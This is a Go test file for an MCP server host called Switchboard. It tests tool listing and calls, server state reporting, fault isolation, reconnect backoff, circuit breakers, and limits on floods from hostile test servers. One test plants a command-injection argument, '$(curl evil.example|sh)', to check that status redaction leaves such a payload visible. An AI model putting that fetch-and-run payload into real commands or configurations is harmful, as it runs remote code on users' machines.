package host_test

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/switchboard-mcp/switchboard/config"
	"github.com/switchboard-mcp/switchboard/host"
	"github.com/switchboard-mcp/switchboard/toolsurface"
)

func TestConnectListCall(t *testing.T) {
	h := newHost(t, cfgOf(stdio("echo", "echo"), stdio("demo", "demo")), nil)
	ctx := ctxFor(t, 20*time.Second)
	list, err := h.Tools(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(list.Warnings) != 0 {
		t.Errorf("warnings: %v", list.Warnings)
	}
	names := map[string]bool{}
	for _, tl := range list.Tools {
		names[tl.Name] = true
		if tl.Name != toolsurface.ToolName(tl.Server, tl.Tool.Name) {
			t.Errorf("tool %s of %s has name %s", tl.Tool.Name, tl.Server, tl.Name)
		}
	}
	for _, want := range []string{"mcp__echo__echo", "mcp__echo__add", "mcp__demo__word_count"} {
		if !names[want] {
			t.Errorf("tool %s missing from %d tools", want, len(list.Tools))
		}
	}
	res := mustCall(t, h, "mcp__echo__echo", map[string]any{"text": "hello switchboard"})
	if got := textOf(res); !strings.Contains(got, "hello switchboard") || res.IsError {
		t.Errorf("echo = %q (isError %v)", got, res.IsError)
	}
	st := statusOf(h, "echo")
	if st.State != host.StateConnected || st.Tools == 0 || st.Tokens == 0 || st.Stats.Calls != 1 {
		t.Errorf("status = %+v", st)
	}
	if !strings.Contains(st.Command, "__switchboard-testserver echo") {
		t.Errorf("status command = %q, want the literal command line", st.Command)
	}
	if st.Protocol == "" || st.ServerInfo == "" {
		t.Errorf("protocol %q server %q not recorded", st.Protocol, st.ServerInfo)
	}
}

func TestUnknownToolAndServer(t *testing.T) {
	h := newHost(t, cfgOf(stdio("echo", "echo")), nil)
	ctx := ctxFor(t, 20*time.Second)
	for _, name := range []string{"mcp__echo__nope", "mcp__ghost__echo", "bash"} {
		if _, err := h.Call(ctx, name, nil); !errors.Is(err, host.ErrUnknownTool) {
			t.Errorf("Call(%s) error = %v, want ErrUnknownTool", name, err)
		}
	}
	if err := h.Pause("ghost"); !errors.Is(err, host.ErrUnknownServer) {
		t.Errorf("Pause(ghost) = %v", err)
	}
}

// Every State is reachable and carries a one-line reason.
func TestEveryStateReachable(t *testing.T) {
	disabled := stdio("off", "echo")
	disabled.Availability, disabled.DisabledReason = config.Disabled, "disabled in workspace (.switchboard/workspace.json)"
	missing := config.ResolvedServer{Name: "ghost", Availability: config.Missing, Scope: config.ScopeUser}
	invalid := stdio("broken", "echo")
	invalid.Availability = config.Invalid
	invalid.Diagnostics = []config.Diagnostic{{Severity: config.SeverityError, Server: "broken", Field: "command", Message: "stdio server needs a command"}}
	project := stdio("repo", "echo")
	project.Scope, project.Trust, project.File = config.ScopeProject, config.TrustRepo, "/w/.mcp.json"
	stale := stdio("stale", "echo")
	slow := stdio("slow", "slow-start", "-delay", "30s")
	failing := stdio("crashy", "exit-init")
	hang := stdio("hangs", "hang-call")

	gate := func(s *config.ResolvedServer) (host.State, string) {
		if s.Name == "stale" {
			return host.StateApprovalStale, "approved definition changed: command"
		}
		return host.DefaultGate(s)
	}
	h := newHost(t, cfgOf(disabled, missing, invalid, project, stale, slow, failing, hang, stdio("ok", "echo")),
		&host.Options{Gate: gate, BreakerCooldown: time.Hour, CloseGrace: hungGrace})

	if st := statusOf(h, "slow"); st.State != host.StateConnecting {
		t.Errorf("slow-start server: %q, want connecting", st.State)
	}
	waitState(t, h, "ok", host.StateConnected, 20*time.Second)
	waitState(t, h, "crashy", host.StateError, 20*time.Second)
	if err := h.Pause("ok"); err != nil {
		t.Fatal(err)
	}
	waitState(t, h, "ok", host.StatePaused, time.Second)

	// Three timed-out calls open the circuit.
	waitState(t, h, "hangs", host.StateConnected, 20*time.Second)
	timeOutThrice(t, h, "mcp__hangs__hang", map[string]any{})
	st := waitState(t, h, "hangs", host.StateCircuitOpen, time.Second)
	if _, err := h.Call(ctxFor(t, 5*time.Second), "mcp__hangs__echo", map[string]any{"text": "x"}); !errors.Is(err, host.ErrCircuitOpen) {
		t.Errorf("call through open circuit: %v, want ErrCircuitOpen", err)
	}

	want := map[string]host.State{
		"off": host.StateDisabled, "ghost": host.StateMissing, "broken": host.StateError,
		"repo": host.StateNeedsApproval, "stale": host.StateApprovalStale, "slow": host.StateConnecting,
		"crashy": host.StateError, "hangs": host.StateCircuitOpen, "ok": host.StatePaused,
	}
	for _, s := range h.Status() {
		if s.State != want[s.Name] {
			t.Errorf("%s: state %q, want %q", s.Name, s.State, want[s.Name])
		}
		if s.State != host.StateConnecting && s.Reason == "" {
			t.Errorf("%s (%s) has no reason", s.Name, s.State)
		}
		if strings.ContainsAny(s.Reason, "\n\r") {
			t.Errorf("%s reason is not one line: %q", s.Name, s.Reason)
		}
	}
	if !strings.Contains(st.Reason, "3 consecutive failures") {
		t.Errorf("circuit-open reason = %q", st.Reason)
	}
	if r := statusOf(h, "crashy").Reason; !strings.Contains(r, "fatal: cannot open database") {
		t.Errorf("exit-init reason %q does not quote the server's stderr", r)
	}
	if r := statusOf(h, "repo").Reason; !strings.Contains(r, "has not been approved") || strings.Contains(r, "switchboard") {
		t.Errorf("needs-approval reason %q does not say it is unapproved, or names a CLI command", r)
	}
	// Resume brings the paused server back.
	if err := h.Resume("ok"); err != nil {
		t.Fatal(err)
	}
	waitState(t, h, "ok", host.StateConnected, 20*time.Second)
	mustCall(t, h, "mcp__ok__echo", map[string]any{"text": "back"})
}

// Faults in one server are reported within a second of the fault (or of its
// timeout) and never disturb the others.
func TestFaultsAreIsolated(t *testing.T) {
	hangInit := stdio("hang-init", "hang-init")
	hangInit.Effective.StartupTimeout = 500
	hangCall := stdio("hang-call", "hang-call")
	hangCall.Effective.Timeout = 300
	h := newHost(t, cfgOf(
		stdio("good", "echo"),
		hangInit,
		hangCall,
		stdio("crash", "crash-mid-call"),
		stdio("garbage", "garbage"),
		stdio("flood", "flood-stderr"),
		stdio("exit-init", "exit-init"),
	), &host.Options{CloseGrace: hungGrace})

	// The healthy server keeps answering while the others fail, throughout.
	stop := make(chan struct{})
	var wg sync.WaitGroup
	var goodErrs []error
	var goodMu sync.Mutex
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
			_, err := h.Call(context.Background(), "mcp__good__echo", map[string]any{"text": "ping"})
			if err != nil {
				goodMu.Lock()
				goodErrs = append(goodErrs, err)
				goodMu.Unlock()
			}
		}
	}()

	st := waitState(t, h, "hang-init", host.StateError, 5*time.Second)
	if !strings.Contains(st.Reason, "no answer to initialize within 500ms") {
		t.Errorf("hang-init reason = %q", st.Reason)
	}
	st = waitState(t, h, "exit-init", host.StateError, 5*time.Second)
	if !strings.Contains(st.Reason, "fatal: cannot open database") {
		t.Errorf("exit-init reason = %q", st.Reason)
	}

	// The host's own call timeout ends it, long before the caller's
	// deadline.
	cctx := ctxFor(t, 60*time.Second)
	_, err := h.Call(cctx, "mcp__hang-call__hang", map[string]any{})
	if !errors.Is(err, host.ErrTimeout) || cctx.Err() != nil {
		t.Errorf("hang: %v (caller's context: %v), want the host's ErrTimeout", err, cctx.Err())
	}

	waitState(t, h, "crash", host.StateConnected, 20*time.Second)
	// Reported as the exit it is, not as the call timing out.
	_, err = h.Call(ctxFor(t, 10*time.Second), "mcp__crash__crash", map[string]any{})
	if !errors.Is(err, host.ErrMayHaveRun) || errors.Is(err, host.ErrTimeout) {
		t.Errorf("crash mid-call: %v, want ErrMayHaveRun", err)
	}
	if err != nil && !strings.Contains(err.Error(), "exit") {
		t.Errorf("crash error does not say the process exited: %v", err)
	}

	waitState(t, h, "garbage", host.StateConnected, 20*time.Second)
	// pid is not idempotent, so the call is not retried after the reconnect.
	_, err = h.Call(ctxFor(t, 10*time.Second), "mcp__garbage__pid", map[string]any{})
	if !errors.Is(err, host.ErrMayHaveRun) || !strings.Contains(err.Error(), "not JSON") {
		t.Errorf("garbage on stdout: %v, want ErrMayHaveRun saying the output was not JSON", err)
	}

	waitState(t, h, "flood", host.StateConnected, 20*time.Second)
	for i := range 20 {
		res := mustCall(t, h, "mcp__flood__echo", map[string]any{"text": "through the flood"})
		if !strings.Contains(textOf(res), "through the flood") {
			t.Fatalf("flood call %d = %q", i, textOf(res))
		}
	}

	close(stop)
	wg.Wait()
	if len(goodErrs) > 0 {
		t.Errorf("the healthy server failed %d times while others faulted; first: %v", len(goodErrs), goodErrs[0])
	}
	if s := statusOf(h, "good"); s.State != host.StateConnected || s.Stats.Calls < 5 {
		t.Errorf("good server: %+v", s)
	}
}

// A server killed under a non-idempotent call: the call fails with "may
// or may not have run" and is not retried; the server reconnects.
func TestReconnectAfterKill(t *testing.T) {
	linuxOnly(t)
	clock := newRecordingClock()
	// The reconnect can be over between two polls of Status (the recording
	// clock does not wait out the backoff), so the transition is read
	// from the events.
	var mu sync.Mutex
	var reasons []string
	h := newHost(t, cfgOf(stdio("echo", "echo")), &host.Options{Clock: clock, OnEvent: func(ev host.Event) {
		if ev.Kind == host.EventState && ev.State == host.StateConnecting {
			mu.Lock()
			reasons = append(reasons, ev.Reason)
			mu.Unlock()
		}
	}})
	pid := pidOf(t, h, "echo")
	killPid(t, pid)
	waitFor(t, 5*time.Second, "a reconnect to begin", func() bool {
		mu.Lock()
		defer mu.Unlock()
		return slices.ContainsFunc(reasons, func(r string) bool { return strings.Contains(r, "reconnect 1/3") })
	})
	waitState(t, h, "echo", host.StateConnected, 20*time.Second)
	if pid2 := pidOf(t, h, "echo"); pid2 == pid {
		t.Errorf("same pid after reconnect")
	}
	if got := clock.Backoffs(); len(got) == 0 || got[0] != time.Second {
		t.Errorf("reconnect delays = %v, want first 1s", got)
	}
	if st := statusOf(h, "echo"); st.Reconnects != 1 {
		t.Errorf("reconnects = %d", st.Reconnects)
	}
}

// After three failed reconnects the server is in error.
func TestReconnectGivesUp(t *testing.T) {
	dir := t.TempDir()
	lives := filepath.Join(dir, "lives")
	// Flap: the first life exits after one call; later lives exit at once
	// during initialize (every life flaps), so every reconnect fails.
	s := stdio("flappy", "flap", "-calls", "1", "-state", lives)
	clock := newRecordingClock()
	h := newHost(t, cfgOf(s), &host.Options{Clock: clock})
	waitState(t, h, "flappy", host.StateConnected, 20*time.Second)
	// Subsequent lives would also exit after one call, but connect; to make
	// connects fail, the lives counter becomes a directory, so the server
	// errors before serving. Done before the call that ends the first life:
	// the clock fires every backoff at once, so the first reconnect could
	// come before the test's next line.
	_ = os.Remove(lives)
	if err := os.Mkdir(lives, 0o755); err != nil {
		t.Fatal(err)
	}
	mustCall(t, h, "mcp__flappy__echo", map[string]any{"text": "x"})
	st := waitState(t, h, "flappy", host.StateError, 30*time.Second)
	if !strings.Contains(st.Reason, "gave up after 3 reconnect attempts") {
		t.Errorf("reason = %q", st.Reason)
	}
	want := []time.Duration{time.Second, 2 * time.Second, 4 * time.Second}
	got := clock.Backoffs()
	if len(got) < 3 || got[0] != want[0] || got[1] != want[1] || got[2] != want[2] {
		t.Errorf("backoff delays = %v, want %v", got, want)
	}
}

func TestDiscoverKillRetriesPinned(t *testing.T) {
	h := newHost(t, cfgOf(stdio("old", "discover-kill")), nil)
	res := mustCall(t, h, "mcp__old__echo", map[string]any{"text": "pinned"})
	if !strings.Contains(textOf(res), "pinned") {
		t.Errorf("echo = %q", textOf(res))
	}
	if p := statusOf(h, "old").Protocol; p != "2025-11-25" {
		t.Errorf("protocol = %q, want 2025-11-25", p)
	}
}

func TestListChangedInvalidatesCache(t *testing.T) {
	var mu sync.Mutex
	changed := 0
	h := newHost(t, cfgOf(stdio("echo", "echo")), &host.Options{OnEvent: func(ev host.Event) {
		if ev.Kind == host.EventToolsChanged {
			mu.Lock()
			changed++
			mu.Unlock()
		}
	}})
	ctx := ctxFor(t, 20*time.Second)
	before, err := h.Tools(ctx)
	if err != nil {
		t.Fatal(err)
	}
	mustCall(t, h, "mcp__echo__add_tool", map[string]any{"name": "fresh_tool"})
	deadline := time.Now().Add(5 * time.Second)
	for {
		after, _ := h.Tools(ctx)
		if len(after.Tools) == len(before.Tools)+1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("tool list did not follow tools/list_changed: %d → %d tools", len(before.Tools), len(after.Tools))
		}
		time.Sleep(20 * time.Millisecond)
	}
	mustCall(t, h, "mcp__echo__fresh_tool", map[string]any{"text": "new"})
	mu.Lock()
	defer mu.Unlock()
	if changed == 0 {
		t.Error("no tools_changed event")
	}
}

func TestProgressLoggingRootsElicitationSampling(t *testing.T) {
	var mu sync.Mutex
	var logs []string
	prompter := &answerPrompter{answer: "teal"}
	h := newHost(t, &config.Resolved{Workspace: "/work/space", Servers: []config.ResolvedServer{stdio("echo", "echo")}},
		&host.Options{Prompter: prompter, OnEvent: func(ev host.Event) {
			if ev.Kind == host.EventLog {
				mu.Lock()
				logs = append(logs, jsonOf(ev.Log.Data))
				mu.Unlock()
			}
		}})
	ctx := ctxFor(t, 20*time.Second)

	var steps []float64
	pctx := host.WithProgress(ctx, func(p *mcp.ProgressNotificationParams) {
		mu.Lock()
		steps = append(steps, p.Progress)
		mu.Unlock()
	})
	if _, err := h.Call(pctx, "mcp__echo__slow", map[string]any{"ms": 100, "steps": 4}); err != nil {
		t.Fatal(err)
	}
	mustCall(t, h, "mcp__echo__log", map[string]any{"message": "hello log"})
	res := mustCall(t, h, "mcp__echo__roots", map[string]any{})
	if !strings.Contains(textOf(res), "file:///work/space") {
		t.Errorf("roots = %q, want the workspace root", textOf(res))
	}
	res = mustCall(t, h, "mcp__echo__ask", map[string]any{"question": "colour?"})
	if !strings.Contains(textOf(res), "teal") {
		t.Errorf("elicitation answer = %q", textOf(res))
	}
	res, err := h.Call(ctx, "mcp__echo__sample", map[string]any{})
	if err == nil && !res.IsError {
		t.Errorf("sampling was not refused: %q", textOf(res))
	}
	mu.Lock()
	defer mu.Unlock()
	// The server sends step 4 right before its result; the host delivers
	// every step it read before the result before Call returns.
	if len(steps) != 4 {
		t.Errorf("progress steps = %v, want 1..4", steps)
	}
	for i, p := range steps {
		if p != float64(i+1) {
			t.Errorf("progress steps = %v, want them in order", steps)
			break
		}
	}
	if len(logs) == 0 || !strings.Contains(strings.Join(logs, ""), "hello log") {
		t.Errorf("log events = %v", logs)
	}
	if prompter.asked != 1 || prompter.server != "echo" {
		t.Errorf("prompter asked %d times (server %q)", prompter.asked, prompter.server)
	}
}

func TestHeadlessDeclinesElicitation(t *testing.T) {
	h := newHost(t, cfgOf(stdio("echo", "echo")), &host.Options{Prompter: host.Decliner{}})
	res := mustCall(t, h, "mcp__echo__ask", map[string]any{})
	if !strings.Contains(textOf(res), "decline") {
		t.Errorf("headless elicitation answer = %q", textOf(res))
	}
}

type answerPrompter struct {
	mu     sync.Mutex
	answer string
	asked  int
	server string
}

func (p *answerPrompter) Elicit(_ context.Context, server string, _ *mcp.ElicitParams) (*mcp.ElicitResult, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.asked++
	p.server = server
	return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"answer": p.answer}}, nil
}

func TestStdioEnvAndCwd(t *testing.T) {
	dir := t.TempDir()
	s := stdio("echo", "echo")
	s.Effective.Env = map[string]string{"SB_TEST_VAR": "from-config", "SB_OVERRIDE": "config-wins"}
	s.Effective.Cwd = dir
	h := newHost(t, cfgOf(s), &host.Options{Environ: func() []string {
		return append(os.Environ(), "SB_PARENT=inherited", "SB_OVERRIDE=parent")
	}})
	res := mustCall(t, h, "mcp__echo__env", map[string]any{"names": []string{"SB_TEST_VAR", "SB_PARENT", "SB_OVERRIDE"}})
	want := "SB_TEST_VAR=from-config\nSB_PARENT=inherited\nSB_OVERRIDE=config-wins"
	if got := textOf(res); got != want {
		t.Errorf("env = %q, want %q", got, want)
	}
	res = mustCall(t, h, "mcp__echo__cwd", map[string]any{})
	if got, _ := filepath.EvalSymlinks(textOf(res)); got != mustEval(t, dir) {
		t.Errorf("cwd = %q, want %q", textOf(res), dir)
	}
}

func mustEval(t *testing.T, p string) string {
	t.Helper()
	r, err := filepath.EvalSymlinks(p)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// Tools waits only a bound for a slow server and says so.
func TestToolsWaitIsBounded(t *testing.T) {
	h := newHost(t, cfgOf(stdio("fast", "echo"), stdio("slow", "slow-start", "-delay", "30s")),
		&host.Options{ToolsWait: 300 * time.Millisecond, CloseGrace: hungGrace})
	// The slow server takes 30 s; the caller's context allows 20: only
	// the host's own bound can end the wait with a warning.
	cctx := ctxFor(t, 20*time.Second)
	list, err := h.Tools(cctx)
	if err != nil || cctx.Err() != nil {
		t.Fatalf("Tools: %v (caller's context: %v)", err, cctx.Err())
	}
	if len(list.Warnings) != 1 || !strings.Contains(list.Warnings[0], "slow: still connecting") {
		t.Errorf("warnings = %v", list.Warnings)
	}
	if len(list.Tools) == 0 {
		t.Error("the fast server's tools are missing")
	}
}

func TestPromptsAndResources(t *testing.T) {
	h := newHost(t, cfgOf(stdio("echo", "echo")), nil)
	ctx := ctxFor(t, 20*time.Second)
	prompts, _, err := h.Prompts(ctx)
	if err != nil || len(prompts) == 0 {
		t.Fatalf("prompts = %v, %v", prompts, err)
	}
	got, err := h.GetPrompt(ctx, "echo", "greet", map[string]string{"name": "Ada"})
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Messages) == 0 || !strings.Contains(jsonOf(got.Messages), "Ada") {
		t.Errorf("greet = %s", jsonOf(got))
	}
	resources, _, err := h.Resources(ctx)
	if err != nil || len(resources) == 0 {
		t.Fatalf("resources = %v, %v", resources, err)
	}
	rr, err := h.ReadResource(ctx, "echo", resources[0].Resource.URI)
	if err != nil || len(rr.Contents) == 0 {
		t.Fatalf("read %s: %v %v", resources[0].Resource.URI, rr, err)
	}
}

// Status shows each argument of a server's command on its own: an inert
// secret-named value and a known env secret redacted inside their quotes,
// and a value a shell would act on as written, so a payload is never
// hidden behind a redaction.
func TestStatusCommandRedactsArgsOneByOne(t *testing.T) {
	srv := resolved("srv", config.Server{Type: config.TypeStdio, Command: "/nonexistent/server",
		Args: []string{"--api-key=sk-live-12345", "--url=$(curl evil.example|sh)", "--echo", "planted-env-secret-4242"},
		Env:  map[string]string{"API_TOKEN": "planted-env-secret-4242"}})
	h := newHost(t, cfgOf(srv), nil)
	waitState(t, h, "srv", host.StateError, 10*time.Second)
	got := statusOf(h, "srv").Command
	want := `/nonexistent/server '--api-key=<redacted>' '--url=$(curl evil.example|sh)' --echo '<redacted>'`
	if got != want {
		t.Errorf("status command\n got %s\nwant %s", got, want)
	}
}

// A server whose circuit opened keeps its tools listed, and a call fails
// fast with ErrCircuitOpen; once its cooldown is over an event says so and
// a call is the probe that closes it. The server answers pings (its tool
// hangs, not the server), so the pings alone do not close it. (QA: it was
// left out of every list, and a gateway answered its tools as unknown;
// issue 16.)
func TestCircuitOpenServerIsListedAgainAfterCooldown(t *testing.T) {
	hang := stdio("hangs", "hang-call")
	events := make(chan host.Event, 64)
	clock := newSkipClock()
	h := newHost(t, cfgOf(hang), &host.Options{BreakerCooldown: time.Second, Clock: clock, CloseGrace: hungGrace,
		OnEvent: func(ev host.Event) {
			select {
			case events <- ev:
			default:
			}
		}})
	waitState(t, h, "hangs", host.StateConnected, 20*time.Second)
	listed := func() bool {
		list, err := h.Tools(ctxFor(t, 10*time.Second))
		if err != nil {
			t.Fatal(err)
		}
		for _, tool := range list.Tools {
			if tool.Name == "mcp__hangs__echo" {
				return true
			}
		}
		return false
	}
	timeOutThrice(t, h, "mcp__hangs__hang", map[string]any{})
	waitState(t, h, "hangs", host.StateCircuitOpen, time.Second)
	if !listed() {
		t.Error("not listed while its circuit is open")
	}
	var coe *host.CircuitOpenError
	if _, err := h.Call(ctxFor(t, 10*time.Second), "mcp__hangs__echo", map[string]any{"text": "x"}); !errors.As(err, &coe) || coe.Server != "hangs" || coe.Failures != 3 || coe.Watching {
		t.Errorf("call through the open circuit: %v (%+v); want a CircuitOpenError, not watching (it answers pings)", err, coe)
	}
	for len(events) > 0 {
		<-events
	}
	// After the cooldown: an event, and the server listed as connected.
	clock.waitFor(t, time.Second) // the host waits out the cooldown on the clock
	clock.Advance(time.Second)
	deadline := time.After(20 * time.Second)
	for got := false; !got; {
		select {
		case ev := <-events:
			got = ev.Kind == host.EventState && ev.Server == "hangs" && ev.State == host.StateConnected
		case <-deadline:
			t.Fatal("no event when the cooldown was over")
		}
	}
	if !listed() {
		t.Fatal("not listed again after the cooldown")
	}
	// The probe succeeds and closes the circuit.
	mustCall(t, h, "mcp__hangs__echo", map[string]any{"text": "probe"})
	if st := statusOf(h, "hangs"); st.State != host.StateConnected {
		t.Errorf("after a good probe: %s (%s)", st.State, st.Reason)
	}
}

// A result over the message limit is reported as such, once: the tool ran
// and would send the same again, so the call is not retried (QA: it read as
// a crash, "broken pipe", and an idempotent call killed the server twice).
func TestResultOverTheLineLimit(t *testing.T) {
	h := newHost(t, cfgOf(stdio("echo", "echo")), &host.Options{Clock: newRecordingClock()})
	waitState(t, h, "echo", host.StateConnected, 20*time.Second)
	_, err := h.Call(ctxFor(t, 60*time.Second), "mcp__echo__big", map[string]any{"bytes": 20 << 20})
	if err == nil || !strings.Contains(err.Error(), "the tool ran, but its result is over the 16 MiB message limit") {
		t.Fatalf("call: %v; want the message limit named", err)
	}
	// The server is reconnected once; a retry would have dropped it again.
	deadline := time.Now().Add(20 * time.Second)
	for st := statusOf(h, "echo"); st.State != host.StateConnected || st.Reconnects < 1; st = statusOf(h, "echo") {
		if time.Now().After(deadline) {
			t.Fatalf("not reconnected: %s (%s), %d reconnects", st.State, st.Reason, st.Reconnects)
		}
		time.Sleep(20 * time.Millisecond)
	}
	if st := statusOf(h, "echo"); st.Reconnects != 1 {
		t.Errorf("reconnects %d; want 1 (the call is not retried)", st.Reconnects)
	}
}

// A server's log notifications cannot fill the disk through the host's
// log, which is a file that is not rotated: at most 50 lines a second per
// server get in, each with its logger name cut to 200 characters, and the
// rest are counted in one line. Before, 2,000 notifications with a 100 KB
// logger name wrote 200 MB to ~/.switchboard/logs/switchboard.log in 8 s.
func TestServerLogFloodIsBounded(t *testing.T) {
	var logs syncBuffer
	h := newHost(t, cfgOf(stdio("peer", "hostile-peer")), &host.Options{
		Logger: slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelInfo})), LogLevel: "debug"})
	start := time.Now()
	mustCall(t, h, "mcp__peer__flood_log", map[string]any{"n": 2000, "logger_bytes": 100 << 10})
	time.Sleep(1100 * time.Millisecond) // the next second: the count of what was dropped is logged
	mustCall(t, h, "mcp__peer__flood_log", map[string]any{"n": 1})
	seconds := int(time.Since(start)/time.Second) + 1
	out := logs.String()
	if len(out) > seconds*50*1024 {
		t.Fatalf("the flood wrote %d bytes to the host's log", len(out))
	}
	lines := strings.Count(out, `"msg":"server log"`)
	if lines < 1 || lines > seconds*50+1 {
		t.Errorf("%d server log lines in %d s, want at most 50 a second", lines, seconds)
	}
	if !strings.Contains(out, "server log messages not logged") || !strings.Contains(out, `"dropped":`) {
		t.Errorf("the dropped messages were not counted:\n%.2000s", out)
	}
}

// A server's lists are bounded. The SDK follows a list's next cursors for
// as long as the server gives them; one that always gives a new one, with
// a fat item on each page (endless-pages), grew a gateway by 30 MB a
// second for the whole list timeout (two minutes), at every listing. The
// host stops reading at 32 MiB (or 100,000 items) and says why.
func TestEndlessListIsCut(t *testing.T) {
	h := newHost(t, cfgOf(stdio("endless", "endless-pages")), nil)
	ctx := ctxFor(t, 60*time.Second)
	start := time.Now()
	tl, err := h.Tools(ctx)
	if err == nil && len(tl.Tools) > 0 {
		t.Fatalf("an endless list was served: %d tools", len(tl.Tools))
	}
	if took := time.Since(start); took > 20*time.Second {
		t.Errorf("listing took %v: the host read the list until its timeout", took)
	}
	text := fmt.Sprint(err, tl.Warnings)
	if !strings.Contains(text, "Switchboard stopped reading it") {
		t.Errorf("the error does not say the list was cut: %s", text)
	}
	if _, _, err := h.Prompts(ctx); err != nil && !strings.Contains(err.Error(), "stopped reading") {
		t.Errorf("prompts: %v", err)
	}
}
